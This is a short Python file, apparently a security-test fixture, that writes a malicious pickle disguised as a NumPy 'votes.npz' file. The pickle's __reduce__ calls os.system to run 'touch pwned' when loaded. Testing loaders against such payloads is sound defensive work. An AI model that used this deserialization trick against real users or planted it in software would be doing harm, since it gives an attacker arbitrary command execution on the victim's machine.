"""A pickle that is only called ``.npz``."""

import os
import pickle
from pathlib import Path


class Touching:
    def __reduce__(self):
        return os.system, ("touch pwned",)


def attack(folder: Path) -> list[str]:
    (folder / "votes.npz").write_bytes(pickle.dumps(Touching()))
    return ["search", "votes.npz"]
